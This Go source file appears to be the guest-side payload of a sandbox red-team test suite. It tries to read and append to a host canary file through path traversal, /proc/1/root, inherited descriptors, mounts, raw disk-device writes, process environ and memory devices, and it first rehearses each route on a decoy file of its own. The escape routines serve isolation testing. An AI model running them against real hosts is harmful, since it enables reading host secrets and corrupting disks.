//go:build linux

// Package payload is the guest half of P-A2: it tries to read and to change one
// canary file of the host, in every way it knows, after it did the same to a
// file of its own.
package payload

import (
	"bytes"
	"context"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"os"
	"path/filepath"

	"github.com/brainst0rm/sandbox-redteam/internal/attack"
	"github.com/brainst0rm/sandbox-redteam/internal/wire"
)

// errOtherFile: something was read, but it was not the canary.
var errOtherFile = errors.New("another file")

// job is one run: the same functions work on the canary and on the proof file.
type job struct {
	ctx    context.Context
	p      attack.FSEscapeParams
	dir    string
	record func(wire.Attempt)
}

// Run is the tool fs.escape.
func Run(ctx context.Context, in wire.ToolInput) int {
	var p attack.FSEscapeParams
	if err := json.Unmarshal(in.Params, &p); err != nil {
		fmt.Fprintln(in.Stderr, "fs.escape: bad parameters:", err)
		return 2
	}
	r := wire.NewRecorder(attack.FSEscape, p.Nonce)
	if len(p.Restore) > 0 {
		for _, c := range p.Restore {
			r.Try(wire.Outcome(attack.FSDiskWrite, "restore", c.Device, writeAt(c.Device, c.Offset, c.Data)))
		}
	} else if err := attackAll(ctx, p, r); err != nil {
		r.Fact("setup", err.Error())
	}
	if err := r.Write(in.Stdout); err != nil {
		return 1
	}
	return 0
}

func attackAll(ctx context.Context, p attack.FSEscapeParams, r *wire.Recorder) error {
	dir, err := writableDir()
	if err != nil {
		dir = ""
		r.Fact("writable", err.Error())
	} else {
		defer os.RemoveAll(dir)
		if err := prove(ctx, p, dir, r); err != nil {
			return err
		}
	}
	j := job{ctx: ctx, p: p, dir: dir, record: r.Try}
	if p.PlantFD {
		f, err := os.Open("/")
		if err != nil {
			return err
		}
		defer f.Close()
	}
	j.files()
	j.environ("/proc")
	j.disks(r.Fact)
	j.sockets()
	j.devMem(memoryDevices)
	return nil
}

// files runs every way to the canary file.
func (j job) files() {
	j.read(attack.FSAbsolute, j.p.Path)
	for _, path := range j.detours() {
		j.read(attack.FSTraversal, path)
	}
	j.procRoots()
	j.inherited()
	j.handles()
	found := j.mounts()
	for _, path := range append([]string{j.p.Path, climb("", j.p.Path), "/proc/1/root" + j.p.Path}, found...) {
		j.record(wire.Outcome(attack.FSWrite, "append", path, appendTo(path, j.p.Append)))
	}
}

// read records an attempt to read the canary at path.
func (j job) read(cas, path string) bool {
	f, err := os.Open(path)
	return j.readFile(cas, "read", path, f, err)
}

// readFile reads and closes f, if there is one, and records what came of it.
func (j job) readFile(cas, op, target string, f *os.File, err error) bool {
	var data []byte
	if err == nil {
		data, err = io.ReadAll(io.LimitReader(f, wire.MaxAttemptData))
		_ = f.Close()
	}
	if err == nil && !bytes.Contains(data, []byte(j.p.Marker)) {
		data, err = nil, errOtherFile
	}
	a := wire.Outcome(cas, op, target, err)
	a.Data = data
	j.record(a)
	return err == nil
}

// appendTo never creates a file.
func appendTo(path, text string) error {
	f, err := os.OpenFile(path, os.O_WRONLY|os.O_APPEND, 0)
	if err != nil {
		return err
	}
	_, err = io.WriteString(f, text)
	return errors.Join(err, f.Close())
}

// prove does to a file of our own what is then done to the canary.
func prove(ctx context.Context, p attack.FSEscapeParams, dir string, r *wire.Recorder) error {
	own := p
	own.VM, own.CanaryOnly = false, true
	own.Marker, own.EnvName, own.DiskToken = "bsm-inside-marker", "BSM_INSIDE", "bsm-inside-token"
	own.Path = filepath.Join(dir, "inside")
	own.Devices = []string{filepath.Join(dir, "disk")}
	own.Append, own.Socket = " appended", filepath.Join(dir, "s")
	if err := os.WriteFile(own.Path, []byte(own.Marker+" nothing secret\n"), 0o600); err != nil {
		return err
	}
	own.HandleType, own.Handle = ownHandle(own.Path)
	disk := make([]byte, 64<<10)
	copy(disk[5000:], own.Marker)
	if err := os.WriteFile(own.Devices[0], disk, 0o600); err != nil {
		return err
	}
	proc := filepath.Join(dir, "proc")
	if err := os.MkdirAll(filepath.Join(proc, "1"), 0o700); err != nil {
		return err
	}
	if err := os.WriteFile(filepath.Join(proc, "1", "environ"), []byte("A=b\x00BSM_INSIDE=1\x00"), 0o600); err != nil {
		return err
	}
	stop, err := listen(own.Socket)
	if err == nil {
		defer stop()
	}
	// An open directory stands in for an inherited one.
	f, err := os.Open("/")
	if err != nil {
		return err
	}
	defer f.Close()
	j := job{ctx: ctx, p: own, dir: dir, record: r.Prove}
	j.files()
	j.environ(proc)
	j.disks(func(string, string) {})
	j.socket(attack.FSSocket, own.Socket, "inside")
	j.devMem([]string{"/dev/null"})
	return nil
}

// writableDir makes a directory wherever the sandbox lets us write.
func writableDir() (string, error) {
	var last error
	for _, base := range []string{os.TempDir(), "/tmp", "/dev/shm", "/run", "/var/tmp", "."} {
		dir, err := os.MkdirTemp(base, "bsm-")
		if err == nil {
			return filepath.Abs(dir)
		}
		last = err
	}
	return "", last
}
